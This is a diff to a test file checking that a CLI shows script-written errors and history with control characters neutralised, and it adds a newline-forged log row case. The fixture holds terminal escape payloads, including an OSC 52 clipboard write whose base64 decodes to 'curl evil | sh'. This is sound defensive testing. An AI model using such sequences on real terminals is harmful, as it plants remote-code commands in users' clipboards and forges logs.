@@ -204,7 +204,8 @@ def test_versions_history_errors_and_stats_read_well(env: tuple[Cli, Path]) -> N
 HOSTILE = """\
 on endpoint(event):
     print("\\x1b]0;pwned\\x07\\x1b[2J\\rforged line \\u202eevil")
-    raise ValueError("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b31m")
+    raise ValueError("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b31m"
+                     "\\n2026-01-01 00:00:00  req_FAKE  timeout  9  1")
 """
 
 
@@ -228,6 +229,8 @@ def test_what_scripts_and_callers_wrote_reaches_the_terminal_inert(env: tuple[Cl
                      ("history", "show", "1", sid, request_id)):
             shown = cli.out(*args)
             assert not any(c in shown for c in "\x1b\x07\r\x7f\x9b\u202e"), (args, shown)
+            # A newline in what the script wrote starts no row of its own.
+            assert not any(line.startswith("2026-01-01") for line in shown.splitlines()), shown
         shown = cli.out("errors", "1", sid)
         assert "ValueError: \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b31m" in shown, shown
         record = cli.out("history", "show", "1", sid, request_id)
